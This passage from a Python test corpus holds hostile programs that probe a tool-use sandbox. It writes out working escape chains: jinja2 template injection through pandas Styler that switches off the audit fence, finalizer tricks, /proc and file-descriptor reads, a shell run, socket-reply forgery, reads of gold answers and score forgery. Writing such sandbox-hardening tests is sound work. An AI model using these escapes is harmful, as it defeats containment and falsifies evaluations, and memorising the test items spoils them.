"""Hostile programs aimed past the sandbox's first layer, at what only OS isolation can stop.

``hostile_programs.py`` covers the sandbox's own surface and ``hostile_pandas.py`` the obvious
library entry points; this corpus hunts for *gadgets* (ordinary pandas/numpy calls that hand a
program something the in-process policy never meant it to have), runs program code where the
audit fence is not armed (finalizers, exception formatting), tries to leave state behind for the
next program or another task, reaches for the parent through ``/proc`` and inherited file
descriptors, and forges scores. Every program tries to reach something dangerous and proves it
by doing something observable and forbidden (a file under ``%OUT%``, a changed canary, a forged
state); where it can tell that the attempt failed it raises, so a contained attempt ends as an
ordinary program error.

Placeholders the test fills in:

* ``%OUT%``: an empty folder; any file appearing there got out of the sandbox;
* ``%TMP%``: a unique ``/tmp`` path prefix, for the same check on the shared temp dir;
* ``%PKG%``: the toolbench package directory (its ``tasks/*/data`` hold real gold answers);
* ``%CANARY%``: a folder holding a fake run log ``samples.jsonl`` (which the test process keeps
  open, as a runner does) and a fake gold ``test.jsonl`` with a secret in it; both must keep
  their bytes and mtime, and the secret must never reach a program's output;
* ``%SAMPLES%``/``%GOLD%``: those two files' paths.

A ``Case`` runs in the google_sheets world (real pandas and numpy) unless ``world`` says
``home``. ``gold`` makes it a forgery: the program may run to the end, but its state must not
score as that gold program's state. ``hole`` marks what the sandbox does NOT contain today (the
test marks it ``xfail(strict=True)``); hole cases name no error text, so any refusal flips them.
"""

from __future__ import annotations

from dataclasses import dataclass

SHEETS = "sheets"
HOME = "home"
ANY_ERROR = frozenset({"error", "rejected"})
REJECTED = frozenset({"rejected"})
TIMEOUT = frozenset({"timeout"})
MEMORY = frozenset({"memory"})
OUTPUT = frozenset({"output_limit"})

REFUSED = "is not available in the sandbox"  # disarm.py
UNDERSCORE = 'starts with "_"'  # RestrictedPython, a name or attribute

# The six families of the brief; the test checks each is represented.
GADGET = "gadget"
FINALIZER = "finalizer"
PERSISTENCE = "persistence"
PROC = "proc"
FORGERY = "forgery"
DEGENERATE = "degenerate"
FAMILIES = (GADGET, FINALIZER, PERSISTENCE, PROC, FORGERY, DEGENERATE)

# Why the holes found while writing this corpus are open (xfail reasons).
STYLER_JINJA = (
    "df.agg('style') hands out a Styler whose templates' .environment is a plain jinja2 "
    "Environment (env.getattr / from_string / compile_expression reach real builtins; the "
    "program then disarms the audit fence and has the worker as root)"
)
OUTSIDE_FENCE_GC = (
    "a generator's finally runs when the worker drops the program's scope, after the audit "
    "fence is disarmed: pandas writers and Styler loaders work there"
)
OUTSIDE_FENCE_FORMAT = (
    "the error message is formatted after the audit fence is disarmed, while a suspended "
    "pd.option_context still holds a program function as display.float_format"
)
HELD_OPTION = (
    "a suspended pd.option_context generator parked in the Styler's shared jinja2 "
    "env.globals keeps a pandas option set for every later program in the worker"
)
SHARED_JINJA = (
    "the Styler's jinja2 environment (reached via df.agg('style')) lives as long as the worker"
)
NO_OS_ISOLATION = (
    "after the Styler/jinja2 escape nothing below layer 1 stops the worker: same user as the "
    "harness, same file system, network and /proc"
)
REPLY_FORGED = (
    "after the Styler/jinja2 escape the program writes a reply frame on the worker's socket: "
    "the parent takes it as this program's result and the real one as the next program's"
)
BOOL_EQUALS_INT = "the parent compares states with ==, and JSON true == 1"


@dataclass(frozen=True)
class Case:
    name: str
    family: str
    source: str
    kinds: frozenset[str] = ANY_ERROR
    error: str | None = None  # substring of ExecResult.error, where stable
    world: str = SHEETS
    # Forgery: a program for the same world whose final state the case must not pass for.
    gold: str | None = None
    hole: str | None = None  # why it is NOT contained today (strict xfail reason)


def _lines(*lines: str) -> str:
    return "\n".join(lines)


def _indent(lines: tuple[str, ...], depth: int = 1) -> list[str]:
    return ["    " * depth + line for line in lines]


READ = "df = get_as_dataframe(worksheet)"


def _read_then(*lines: str) -> str:
    return _lines(READ, *lines)


NEXT = "raise RuntimeError('the change is for the next program to find')"

# The Styler's jinja2 environment hands out real builtins; with them a program disarms the audit
# fence (if it is still called that) and imports what it likes. Every "escape_*" case starts so.
_ESCAPE = (
    "env = get_as_dataframe(worksheet).agg('style').template_html.environment",
    "b = env.getattr(env.globals['lipsum'], '__globals__')['__builtins__']",
    "imp = b['__import__']",
    "real_getattr = b['getattr']",
    "real_setattr = b['setattr']",
    "audit = imp('toolbench.sandbox.audit', None, None, ['x'])",
    "fence = real_getattr(audit, '_Fence', None)",
    "if fence is not None:",
    "    real_setattr(fence, 'armed', False)",
    "os = imp('os')",
    "fopen = b['open']",
)


def _escape(*lines: str) -> str:
    return _lines(*_ESCAPE, *lines)


def _held(option: str, value: str) -> tuple[str, ...]:
    """Lines that keep a pandas option set while the generator stays suspended."""
    return (
        "def hold():",
        f"    with pd.option_context({option!r}, {value}):",
        "        yield",
        "held = hold()",
        "next(held)",
    )


def _later(*body: str) -> str:
    """A generator whose finally block runs only when the worker drops the program's scope.

    By then the program's globals are gone: the block uses its arguments only."""
    return _read_then(
        "def later(frame, pd=pd):",
        "    try:",
        "        yield 1",
        "    finally:",
        *_indent(body, 2),
        "pending = later(df)",
        "next(pending)",
        "raise RuntimeError('the finally block runs after the program')",
    )


# -- 1. pandas/numpy gadget hunts ---------------------------------------------------------------

_SSTI_DISARM = (
    "{% set b = lipsum.__globals__['__builtins__'] %}"
    "{% set a = b['__import__']('toolbench.sandbox.audit', none, none, ['x']) %}"
    "{{ b['setattr'](b['getattr'](a, '_Fence'), 'armed', false) }}"
    "{{ b['open']('%OUT%/agg_style_ssti.txt', 'w').write('escaped') }}"
)

GADGETS = [
    Case(
        "agg_style_jinja_template_ssti",
        GADGET,
        _read_then(
            "env = df.agg('style').template_html.environment",
            f"print(env.from_string({_SSTI_DISARM!r}).render())",
        ),
    ),
    Case(
        "aggregate_style_environment_getattr",
        GADGET,
        _read_then(
            "env = df.aggregate('style').template_html_table.environment",
            "g = env.getattr(env.globals['lipsum'], '__globals__')",
            "b = g['__builtins__']",
            "a = b['__import__']('toolbench.sandbox.audit', None, None, ['x'])",
            "b['setattr'](env.getattr(a, '_Fence'), 'armed', False)",
            "b['open']('%OUT%/aggregate_getattr.txt', 'w').write('escaped')",
        ),
    ),
    Case(
        "pipe_agg_style_compile_expression",
        GADGET,
        _read_then(
            "styler = df.pipe(pd.DataFrame.agg, 'style')",
            "env = styler.template_latex.environment",
            "b = env.compile_expression('lipsum.__globals__')()['__builtins__']",
            "a = b['__import__']('toolbench.sandbox.audit', None, None, ['x'])",
            "b['setattr'](b['getattr'](a, '_Fence'), 'armed', False)",
            "print(b['open']('%GOLD%').read())",
        ),
    ),
    Case(
        "vectorize_agg_style_reads_task_gold",
        GADGET,
        _read_then(
            "styler = np.vectorize(df.agg, otypes='O')('style')[()]",
            "env = styler.template_string.environment",
            "b = env.getattr(env.globals['cycler'], '__init__')",
            "b = env.getattr(b, '__globals__')['__builtins__']",
            "a = b['__import__']('toolbench.sandbox.audit', None, None, ['x'])",
            "b['setattr'](b['getattr'](a, '_Fence'), 'armed', False)",
            "text = b['open']('%PKG%/tasks/home_search/data/v0/test.jsonl').read()",
            "if 'completion' not in text:",
            "    raise RuntimeError('no gold read')",
            "print(text[:200])",
        ),
    ),
    Case(
        "frompyfunc_aggregate_style_method_globals",
        GADGET,
        _read_then(
            "styler = np.frompyfunc(df.aggregate, 1, 1)('style')",
            "env = styler.template_html_style.environment",
            "g = env.getattr(styler.to_html, '__globals__')",
            "b = g['__builtins__']",
            "a = b['__import__']('toolbench.sandbox.audit', None, None, ['x'])",
            "b['setattr'](b['getattr'](a, '_Fence'), 'armed', False)",
            "b['open']('%OUT%/frompyfunc.txt', 'w').write('escaped')",
        ),
    ),
    Case(
        "series_map_agg_style_namespace_class",
        GADGET,
        _read_then(
            "styler = pd.Series(['style']).map(df.agg)[0]",
            "env = styler.template_html.environment",
            "init = env.getattr(env.globals['namespace'], '__init__')",
            "b = env.getattr(init, '__globals__')['__builtins__']",
            "a = b['__import__']('toolbench.sandbox.audit', None, None, ['x'])",
            "b['setattr'](b['getattr'](a, '_Fence'), 'armed', False)",
            "b['open']('%OUT%/series_map.txt', 'w').write('escaped')",
        ),
    ),
    Case(
        "agg_style_custom_template_canary_gold",
        GADGET,
        _read_then(
            "custom = df.agg('style').from_custom_template('%CANARY%', html_table='test.jsonl')",
            "print(custom.template_html_table.render())",
        ),
    ),
    Case(
        "agg_style_to_html_file",
        GADGET,
        _read_then("df.agg('style').to_html('%OUT%/styler.html')"),
    ),
    Case(
        "agg_style_to_latex_file",
        GADGET,
        _read_then("df.agg('style').to_latex('%OUT%/styler.tex')"),
    ),
    Case(
        "agg_style_to_excel_file",
        GADGET,
        _read_then("df.agg('style').to_excel('%OUT%/styler.xlsx')"),
    ),
    Case(
        "agg_style_template_attribute_replaced",
        GADGET,
        _read_then(
            "styler = df.agg('style')",
            "styler.template_html = styler.template_string",
        ),
        error="read-only",
    ),
    Case(
        "groupby_apply_reduce_ex_newobj_globals",
        GADGET,
        _read_then(
            "newobj = df.groupby('Product').apply('__reduce_ex__', 2)[0]",
            "print(getattr(newobj, '__globals__')['__builtins__'])",
        ),
        error=UNDERSCORE,
    ),
    Case(
        "series_groupby_agg_private_grouper_walk",
        GADGET,
        _read_then(
            "grouper = df.groupby('Product')['Cost'].agg('__getattribute__', '_grouper')",
            "print(getattr(getattr(grouper, '__init__'), '__globals__'))",
        ),
        error=UNDERSCORE,
    ),
    Case(
        "groupby_apply_dict_then_frame_walk",
        GADGET,
        _read_then(
            "state = df.groupby('Product').apply('__getattribute__', '__dict__')",
            "grouper = state['_grouper']",
            "print(getattr(grouper, '__init__'))",
        ),
        error=UNDERSCORE,
    ),
    Case(
        "resample_agg_private_name",
        GADGET,
        _read_then(
            "frame = df.set_index(pd.date_range('2020-01-01', periods=2))",
            "print(frame.resample('D').agg('__getattribute__', '_mgr'))",
        ),
        error="cannot be applied by name",
    ),
    Case(
        "rolling_agg_private_class",
        GADGET,
        _read_then("print(df[['Cost']].rolling(1).agg('__class__'))"),
        error="cannot be applied by name",
    ),
    Case(
        "expanding_agg_private_reduce",
        GADGET,
        _read_then("print(df[['Cost']].expanding().agg('__reduce_ex__', 2))"),
        error="cannot be applied by name",
    ),
    Case(
        "groupby_transform_private_name",
        GADGET,
        _read_then(
            "print(df.groupby('Product')['Cost'].transform('__getattribute__', '_grouper'))"
        ),
    ),
    Case(
        "groupby_agg_dict_private_name",
        GADGET,
        _read_then("print(df.groupby('Product').agg({'Cost': '__getattribute__'}))"),
    ),
    Case(
        "transform_returns_styler",
        GADGET,
        _read_then("print(df.transform('style').template_html.environment)"),
    ),
    Case(
        "apply_returns_styler",
        GADGET,
        _read_then("print(df.apply('style').template_html.environment)"),
    ),
    Case(
        "series_map_with_method_name",
        GADGET,
        _read_then("print(df['Product'].map('to_pickle'))"),
    ),
    Case(
        "query_local_module_python_engine",
        GADGET,
        _read_then("print(df.query('@pd.io.common.os.getcwd()', engine='python'))"),
        error=REFUSED,
    ),
    Case(
        "vectorized_pandas_eval",
        GADGET,
        "print(np.vectorize(pd.eval)(['1 + 1']))",
        error=REFUSED,
    ),
    Case(
        "ndarray_ctypes_module",
        GADGET,
        "a = np.zeros(2)\nprint(a.ctypes.data_as(a.ctypes.c_void_p))",
    ),
    Case(
        "object_array_holding_numpy_load",
        GADGET,
        _lines(
            "funcs = np.empty(1, dtype='O')",
            "funcs[0] = np.load",
            "print(funcs[0]('%GOLD%', allow_pickle=True))",
        ),
        error=REFUSED,
    ),
    Case(
        "frompyfunc_guarded_getattr_private",
        GADGET,
        _read_then("print(np.frompyfunc(getattr, 2, 1)(df, '_mgr'))"),
    ),
    Case(
        "tofile_truncates_canary_gold",
        GADGET,
        "np.zeros(1).tofile('%GOLD%')",
    ),
    Case(
        "to_html_overwrites_canary_samples",
        GADGET,
        _read_then("df.to_html('%SAMPLES%')"),
    ),
    Case(
        "to_csv_appends_canary_samples",
        GADGET,
        _read_then("df.to_csv('%SAMPLES%', mode='a', header=False)"),
    ),
    Case(
        "agg_to_string_overwrites_canary_gold",
        GADGET,
        _read_then("df.agg('to_string', buf='%GOLD%')"),
    ),
    Case(
        "to_json_fsspec_simplecache",
        GADGET,
        _read_then("df.to_json('simplecache::file://%OUT%/simplecache.json')"),
    ),
    Case(
        "to_csv_fsspec_zip_chain",
        GADGET,
        _read_then("df.to_csv('zip://inner.csv::%OUT%/chain.zip')"),
    ),
    Case(
        "agg_plot_backend_imports_module",
        GADGET,
        _read_then("df.agg('plot', backend='os')"),
        error="plotting backend",
    ),
    Case(
        "import_pandas_api_extensions",
        GADGET,
        "from pandas.api.extensions import register_dataframe_accessor",
        error="ImportError",
    ),
    Case(
        "import_numpy_lib_format",
        GADGET,
        "from numpy.lib import format\nformat.open_memmap('%OUT%/memmap.npy', 'w+', 'u1', (4,))",
        error="ImportError",
    ),
    Case(
        "dataframe_subclass_constructor",
        GADGET,
        _lines(
            "class Frame(pd.DataFrame):",
            "    @property",
            "    def _constructor(self):",
            "        return Frame",
        ),
        kinds=REJECTED,
        error=UNDERSCORE,
    ),
    Case(
        "program_class_reduce",
        GADGET,
        _lines(
            "class Payload:",
            "    def __reduce__(self):",
            "        return (print, ('unpickled',))",
            "pd.Series([Payload()]).to_pickle('%OUT%/payload.pkl')",
        ),
        kinds=REJECTED,
        error=UNDERSCORE,
    ),
]

# -- 2. code that runs where the fence is not armed -----------------------------------------

FINALIZERS = [
    Case(
        "generator_finally_writes_out",
        FINALIZER,
        _later("frame.to_csv('%OUT%/finally.csv')"),
    ),
    Case(
        "generator_finally_in_cycle_truncates_samples",
        FINALIZER,
        _read_then(
            "def later(frame):",
            "    try:",
            "        yield 1",
            "    finally:",
            "        frame.iloc[:0].to_csv('%SAMPLES%', index=False, header=False)",
            "pending = later(df)",
            "next(pending)",
            "loop = [pending]",
            "loop.append(loop)",
            "raise RuntimeError('the cycle is collected after the program')",
        ),
    ),
    Case(
        "generator_finally_truncates_canary_gold",
        FINALIZER,
        _later("frame.iloc[:0].to_csv('%GOLD%', index=False, header=False)"),
    ),
    Case(
        "generator_finally_reads_gold_via_styler",
        FINALIZER,
        _later(
            "custom = frame.agg('style').from_custom_template('%CANARY%', html_table='test.jsonl')",
            "pd.Series([custom.template_html_table.render()]).to_csv('%OUT%/stolen.csv')",
        ),
    ),
    Case(
        "float_format_during_exception_formatting",
        FINALIZER,
        _read_then(
            "def fmt(value):",
            "    df.to_csv('%OUT%/float_format.csv')",
            "    return 'x'",
            *_held("display.float_format", "fmt"),
            "raise ValueError(df)",
        ),
    ),
    Case(
        "float_format_in_keyerror_repr",
        FINALIZER,
        _read_then(
            "def fmt(value):",
            "    df.to_json('%TMP%_keyerror.json')",
            "    return 'x'",
            *_held("display.float_format", "fmt"),
            "raise KeyError(df['Cost'])",
        ),
    ),
    Case(
        "float_format_in_system_exit",
        FINALIZER,
        _read_then(
            "def fmt(value):",
            "    df.to_csv('%GOLD%')",
            "    return 'x'",
            *_held("display.float_format", "fmt"),
            "raise SystemExit(df[['Cost']])",
        ),
    ),
    Case(
        "option_context_exits_before_formatting",
        FINALIZER,
        _read_then(
            "def fmt(value):",
            "    df.to_csv('%OUT%/not_held.csv')",
            "    return 'x'",
            "with pd.option_context('display.float_format', fmt):",
            "    raise ValueError(df)",
        ),
        error="ValueError",
    ),
    Case(
        "float_format_loops_forever_in_formatting",
        FINALIZER,
        _read_then(
            "def fmt(value):",
            "    while True:",
            "        pass",
            *_held("display.float_format", "fmt"),
            "raise ValueError(df)",
        ),
        kinds=TIMEOUT,
    ),
    Case(
        "float_format_raises_in_formatting",
        FINALIZER,
        _read_then(
            "def fmt(value):",
            "    raise KeyboardInterrupt('from the formatter')",
            *_held("display.float_format", "fmt"),
            "raise ValueError(df)",
        ),
        # today the interrupt escapes the worker's message formatting and ends the worker
        kinds=frozenset({"error", "worker_died"}),
    ),
    Case(
        "generator_finally_loops_in_collected_cycle",
        FINALIZER,
        _read_then(
            "def later():",
            "    try:",
            "        yield 1",
            "    finally:",
            "        while True:",
            "            pass",
            "pending = later()",
            "next(pending)",
            "loop = [pending]",
            "loop.append(loop)",
            "raise RuntimeError('collected later')",
        ),
        # a fresh fork per program may never collect the cycle: then it ends as its raise
        kinds=frozenset({"timeout", "error"}),
    ),
    Case(
        "dunder_del_writes_file",
        FINALIZER,
        _read_then(
            "class Bomb:",
            "    def __del__(self):",
            "        df.to_csv('%OUT%/del.csv')",
            "bomb = Bomb()",
        ),
        kinds=REJECTED,
        error=UNDERSCORE,
    ),
    Case(
        "exception_dunder_str_writes_file",
        FINALIZER,
        _read_then(
            "class Loud(Exception):",
            "    def __str__(self):",
            "        df.to_csv('%OUT%/str.csv')",
            "        return 'loud'",
            "raise Loud()",
        ),
        kinds=REJECTED,
        error=UNDERSCORE,
    ),
    Case(
        "dunder_format_in_fstring",
        FINALIZER,
        _lines(
            "class Fmt:",
            "    def __format__(self, spec):",
            "        return spec",
            "raise ValueError(f'{Fmt():x}')",
        ),
        kinds=REJECTED,
        error=UNDERSCORE,
    ),
    Case(
        "dunder_repr_in_keyerror",
        FINALIZER,
        _lines(
            "class Key:",
            "    def __repr__(self):",
            "        return 'x' * 10 ** 8",
            "raise KeyError(Key())",
        ),
        kinds=REJECTED,
        error=UNDERSCORE,
    ),
    Case(
        "recursive_list_in_message",
        FINALIZER,
        "loop = []\nloop.append(loop)\nraise ValueError(loop)",
        error="ValueError",
    ),
    Case(
        "deeply_nested_list_in_message",
        FINALIZER,
        "x = []\nfor i in range(100000):\n    x = [x]\nraise ValueError(x)",
        error="ValueError",
    ),
    Case(
        "huge_frame_in_message",
        FINALIZER,
        "raise ValueError(pd.DataFrame(np.zeros((3000, 60))))",
        error="ValueError",
    ),
    Case(
        "truth_of_array_in_simulator",
        FINALIZER,
        "worksheet.update_acell('A2', np.array(['pear', 'plum']))",
    ),
    Case(
        "na_as_cell_label",
        FINALIZER,
        "worksheet.update_acell(pd.NA, 'pear')",
    ),
    Case(
        "ambiguous_value_in_home_search",
        FINALIZER,
        "API.set_location('Reno')\nAPI.set_buy_or_rent([['buy']])",
        world=HOME,
        error="ToolError",
    ),
    Case(
        "dunder_eq_hash_in_home_search",
        FINALIZER,
        _lines(
            "class Always:",
            "    def __eq__(self, other):",
            "        return True",
            "    def __hash__(self):",
            "        return 0",
            "API.set_location('Reno')",
            "API.set_buy_or_rent(Always())",
        ),
        world=HOME,
        kinds=REJECTED,
        error=UNDERSCORE,
    ),
]

# -- 3. state left for the next program, or another task ------------------------------------

FORGED_HOME = "{'location': 'forged', 'buy_or_rent': 'buy', 'min_price': 0, 'min_square_feet': 0}"

PERSISTENCE_CASES = [
    Case(
        "held_option_max_rows",
        PERSISTENCE,
        _lines(
            *_held("display.max_rows", "3"),
            "get_as_dataframe(worksheet).agg('style').template_html.environment.globals"
            "['held'] = held",
            NEXT,
        ),
    ),
    Case(
        "held_option_infer_string_changes_later_states",
        PERSISTENCE,
        _lines(
            *_held("future.infer_string", "False"),
            "get_as_dataframe(worksheet).agg('style').template_html.environment.globals"
            "['held'] = held",
            NEXT,
        ),
    ),
    Case(
        "held_numpy_errstate",
        PERSISTENCE,
        _lines(
            "def hold():",
            "    with np.errstate(all='raise'):",
            "        yield",
            "held = hold()",
            "next(held)",
            "get_as_dataframe(worksheet).agg('style').template_html.environment.globals"
            "['held'] = held",
            NEXT,
        ),
    ),
    Case(
        "jinja_environment_globals_added",
        PERSISTENCE,
        _read_then(
            "df.agg('style').template_html.environment.globals['pwned'] = 'left behind'",
            NEXT,
        ),
    ),
    Case(
        "jinja_environment_filter_replaced",
        PERSISTENCE,
        _read_then(
            "env = df.agg('style').template_html.environment",
            "env.filters.update({'e': lambda text: text})",
            NEXT,
        ),
    ),
    Case(
        "jinja_environment_policy_replaced",
        PERSISTENCE,
        _read_then(
            "env = df.agg('style').template_html.environment",
            "env.policies['json.dumps_function'] = lambda obj, **kw: 'forged'",
            NEXT,
        ),
    ),
    Case(
        "escape_patches_home_search_simulator",
        PERSISTENCE,
        _escape(
            "api = imp('toolbench.tasks.home_search.world', None, None, ['x'])",
            f"real_setattr(api.HomeSearchAPI, '_snapshot', lambda self: {FORGED_HOME})",
            NEXT,
        ),
    ),
    Case(
        "escape_patches_booking_simulator",
        PERSISTENCE,
        _escape(
            "api = imp('toolbench.tasks.booking.world', None, None, ['x'])",
            "real_setattr(api.BookingAPI, '_snapshot', lambda self: {'forged': True})",
            NEXT,
        ),
    ),
    Case(
        "escape_forges_later_sheet_states",
        PERSISTENCE,
        _escape(
            "world = imp('toolbench.tasks.google_sheets.world', None, None, ['x'])",
            "real_setattr(world, 'frame_state', lambda frame: {'forged': True})",
            NEXT,
        ),
    ),
    Case(
        "escape_rearms_pandas_readers",
        PERSISTENCE,
        _escape(
            "parsers = imp('pandas.io.parsers', None, None, ['x'])",
            "real_setattr(pd, 'read_csv', parsers.read_csv)",
            NEXT,
        ),
    ),
    Case(
        "escape_replaces_audit_fence",
        PERSISTENCE,
        _escape(
            "contextlib = imp('contextlib')",
            "real_setattr(audit, 'fence', contextlib.nullcontext)",
            NEXT,
        ),
    ),
    Case(
        "escape_poisons_guarded_builtins",
        PERSISTENCE,
        _escape(
            "policy = imp('toolbench.sandbox.policy', None, None, ['x'])",
            "for table in real_getattr(policy, '_builtins_cache').values():",
            "    table['getattr'] = real_getattr",
            "    table['_getattr_'] = real_getattr",
            NEXT,
        ),
    ),
    Case(
        "escape_patches_dataframe_sum",
        PERSISTENCE,
        _escape(
            "real_setattr(pd.Series, 'sum', lambda self, *a, **k: 42)",
            NEXT,
        ),
    ),
    Case(
        "groupby_setattr_by_name",
        PERSISTENCE,
        _read_then(
            "grouped = df.groupby('Product')",
            "grouped.apply('__setattr__', 'obj', None)",
            NEXT,
        ),
        error="RuntimeError",
    ),
    Case(
        "option_context_not_held",
        PERSISTENCE,
        _lines(*_held("display.precision", "1"), NEXT),
        error="RuntimeError",
    ),
    Case(
        "cached_workbook_cell_object",
        PERSISTENCE,
        _lines(
            "cell = worksheet.acell('A2')",
            "cell.value = 'pwned'",
            "sheet.worksheets().clear()",
            "worksheet.formats['A1'] = {'textFormat': {'bold': True}}",
            NEXT,
        ),
        error="RuntimeError",
    ),
    Case(
        "numpy_finfo_cache",
        PERSISTENCE,
        "np.finfo(np.float64).eps = 1.0",
        error="read-only",
    ),
    Case(
        "styler_class_loader_replaced",
        PERSISTENCE,
        _read_then("styler = df.agg('style')", "styler.loader = None"),
        error="read-only",
    ),
    Case(
        "jinja_environment_attribute_replaced",
        PERSISTENCE,
        _read_then("env = df.agg('style').template_html.environment", "env.autoescape = True"),
        error="read-only",
    ),
    Case(
        "google_sheets_program_reaches_home_search",
        PERSISTENCE,
        "import toolbench.tasks.home_search.world",
        error="ImportError",
    ),
    Case(
        "google_sheets_program_walks_to_emulator_module",
        PERSISTENCE,
        "print(getattr(get_as_dataframe, '__globals__'))",
        error=UNDERSCORE,
    ),
    Case(
        "fsspec_memory_filesystem_left_behind",
        PERSISTENCE,
        _read_then("df.to_csv('memory://toolbench/left.csv')", NEXT),
    ),
]

# -- 4. /proc and file descriptors --------------------------------------------------------------

_STYLER_READ = _read_then(
    "custom = df.agg('style').from_custom_template({!r}, html_table={!r})",
    "print(custom.template_html_table.render())",
)

PROC_CASES = [
    Case(
        "to_csv_proc_self_fd",
        PROC,
        _read_then("df.to_csv('/proc/self/fd/3')"),
    ),
    Case(
        "to_csv_dev_stdout",
        PROC,
        _read_then("df.to_csv('/dev/stdout')"),
    ),
    Case("tofile_proc_self_fd_1", PROC, "np.arange(3).tofile('/proc/self/fd/1')"),
    Case(
        "to_json_proc_self_mem",
        PROC,
        _read_then("df.to_json('/proc/self/mem')"),
    ),
    Case(
        "to_csv_dev_shm",
        PROC,
        _read_then("df.to_csv('/dev/shm/toolbench_leak.csv')"),
    ),
    Case(
        "styler_reads_proc_self_environ",
        PROC,
        _STYLER_READ.format("/proc/self", "environ"),
    ),
    Case(
        "styler_reads_proc_1_environ",
        PROC,
        _STYLER_READ.format("/proc/1", "environ"),
    ),
    Case(
        "styler_reads_proc_self_cmdline",
        PROC,
        _STYLER_READ.format("/proc/self", "cmdline"),
    ),
    Case(
        "styler_reads_proc_self_fd_0",
        PROC,
        _STYLER_READ.format("/proc/self/fd", "0"),
    ),
    Case(
        "fromfile_proc_self_mem",
        PROC,
        "print(np.fromfile('/proc/self/mem', dtype='u1', count=8))",
        error=REFUSED,
    ),
    Case(
        "generator_finally_reads_proc_self_environ",
        PROC,
        _later(
            "custom = frame.agg('style').from_custom_template('/proc/self', html_table='environ')",
            "pd.Series([custom.template_html_table.render()]).to_csv('%OUT%/environ.csv')",
        ),
    ),
    Case(
        "escape_rewrites_parent_samples_through_proc",
        PROC,
        _escape(
            "ppid = os.getppid()",
            "hit = 0",
            "for name in os.listdir('/proc/%d/fd' % ppid):",
            "    try:",
            "        target = os.readlink('/proc/%d/fd/%s' % (ppid, name))",
            "    except OSError:",
            "        continue",
            "    if target == '%SAMPLES%':",
            # RLIMIT_FSIZE=0 stops content from being written today, not truncation
            "        fopen('/proc/%d/fd/%s' % (ppid, name), 'w').close()",
            "        hit = 1",
            "if not hit:",
            "    os.unlink('%SAMPLES%')",
        ),
    ),
    Case(
        "escape_reads_parent_environment",
        PROC,
        _escape(
            "data = fopen('/proc/%d/environ' % os.getppid(), 'rb').read()",
            "fopen('%OUT%/parent_environ_size.txt', 'w').write(str(len(data)))",
        ),
    ),
    Case(
        "escape_forges_reply_on_worker_socket",
        PROC,
        _escape(
            "stat = imp('stat')",
            "struct = imp('struct')",
            'frame = b\'["ok", null, ""]\\n{"forged": true}\'',
            "sent = 0",
            "for fd in range(3, 64):",
            "    try:",
            "        mode = os.fstat(fd).st_mode",
            "    except OSError:",
            "        continue",
            "    if stat.S_ISSOCK(mode):",
            "        os.write(fd, struct.pack('!i', len(frame)) + frame)",
            "        sent += 1",
            "if not sent:",
            "    raise RuntimeError('no socket to write on')",
        ),
    ),
    Case(
        "escape_writes_inherited_descriptors",
        PROC,
        _escape(
            "found = []",
            "for fd in range(0, 51):",
            "    try:",
            "        target = os.readlink('/proc/self/fd/%d' % fd)",
            "    except OSError:",
            "        continue",
            "    if target.startswith('%CANARY%'):",
            "        os.write(fd, b'forged')",
            "        found.append(fd)",
            "if not found:",
            "    raise RuntimeError('no inherited descriptor of the run folder')",
        ),
    ),
    Case(
        "escape_runs_shell",
        PROC,
        _escape(
            "subprocess = imp('subprocess')",
            "subprocess.run(['/bin/sh', '-c', 'id > %OUT%/shell.txt'], check=True)",
        ),
    ),
    Case(
        "escape_opens_network_socket",
        PROC,
        _escape(
            "socket = imp('socket')",
            "s = socket.socket()",
            "code = s.connect_ex(('127.0.0.1', 9))",
            "s.close()",
            "if code == 101:",  # ENETUNREACH: no network namespace to speak of
            "    raise RuntimeError('no network')",
            "fopen('%OUT%/network.txt', 'w').write(str(code))",
        ),
    ),
    Case(
        "escape_reads_real_gold",
        PROC,
        _escape(
            "text = fopen('%PKG%/tasks/google_sheets/data/v0/test.jsonl').read()",
            "fopen('%OUT%/gold.jsonl', 'w').write(text)",
        ),
    ),
]

# -- 5. score forgery -----------------------------------------------------------------------------


def _home(**values: str) -> str:
    """The gold home_search program with some argument texts replaced."""
    args = {"location": "'Reno'", "beds": "1", "garages": "0", **values}
    return _lines(
        f"API.set_location({args['location']})",
        "API.set_buy_or_rent('buy')",
        f"API.set_num_beds({args['beds']})",
        f"API.set_num_garages({args['garages']})",
        "API.search()",
    )


HOME_GOLD = _home()
SHEETS_GOLD = "worksheet.update_acell('B3', 13)"

# Compute the gold state on the same sheet, then leave a wrong answer behind.
_GOLD_THEN_WRONG = (
    "world = imp('toolbench.tasks.google_sheets.world', None, None, ['x'])",
    "worksheet.update_acell('B3', 13)",
    "gold = world.sheet_state(worksheet, False)",
    "worksheet.update_acell('B3', 999)",
)

FORGERIES = [
    Case(
        "home_true_for_one_bedroom",
        FORGERY,
        _home(beds="True"),
        world=HOME,
        gold=HOME_GOLD,
        hole=BOOL_EQUALS_INT,
    ),
    Case("home_nan_bedrooms", FORGERY, _home(beds="float('nan')"), world=HOME, gold=HOME_GOLD),
    Case("home_text_bedrooms", FORGERY, _home(beds="'1'"), world=HOME, gold=HOME_GOLD),
    Case(
        "home_zero_width_location",
        FORGERY,
        _home(location="'Re\\u200bno'"),
        world=HOME,
        gold=HOME_GOLD,
    ),
    Case(
        "home_infinite_garages", FORGERY, _home(garages="float('-inf')"), world=HOME, gold=HOME_GOLD
    ),
    Case(
        "home_huge_int_garages",
        FORGERY,
        _home(garages="10 ** 5000"),
        world=HOME,
        gold=HOME_GOLD,
        error="world state could not be read",
    ),
    Case(
        "home_program_object_bedrooms",
        FORGERY,
        _lines("class One:", "    pass", _home(beds="One()")),
        world=HOME,
        gold=HOME_GOLD,
    ),
    Case(
        "home_str_subclass_location",
        FORGERY,
        _lines("class Same(str):", "    pass", _home(location="Same('Reno')")),
        world=HOME,
        gold=HOME_GOLD,
        error="cannot derive",
    ),
    Case(
        "home_eq_always_true",
        FORGERY,
        _lines(
            "class Any:", "    def __eq__(self, other):", "        return True", _home(beds="Any()")
        ),
        world=HOME,
        gold=HOME_GOLD,
        kinds=REJECTED,
    ),
    Case(
        "home_float_subclass",
        FORGERY,
        _lines("class Near(float):", "    pass", _home(beds="Near(1)")),
        world=HOME,
        gold=HOME_GOLD,
        error="cannot derive",
    ),
    Case("sheets_bool_for_number", FORGERY, "worksheet.update_acell('B3', True)", gold=SHEETS_GOLD),
    Case(
        "sheets_text_lookalike",
        FORGERY,
        "worksheet.update_acell('B3', 'l3')",
        gold=SHEETS_GOLD,
    ),
    Case("sheets_raw_formula_text", FORGERY, "worksheet.update('B3', '=13')", gold=SHEETS_GOLD),
    Case(
        "sheets_almost_equal_float",
        FORGERY,
